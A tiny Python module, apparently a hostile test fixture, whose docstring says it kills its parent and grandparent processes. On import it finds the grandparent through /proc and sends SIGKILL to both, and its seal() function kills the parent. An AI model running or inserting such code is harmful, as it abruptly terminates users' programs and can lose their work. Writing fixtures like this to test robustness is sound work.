"""Kills its parent, and its parent's parent."""

import os
import signal


def seal(text):
    os.kill(os.getppid(), signal.SIGKILL)
    return ""


with open(f"/proc/{os.getppid()}/stat") as file:
    grandparent = int(file.read().rpartition(")")[2].split()[1])
for pid in (grandparent, os.getppid()):
    if pid:
        os.kill(pid, signal.SIGKILL)
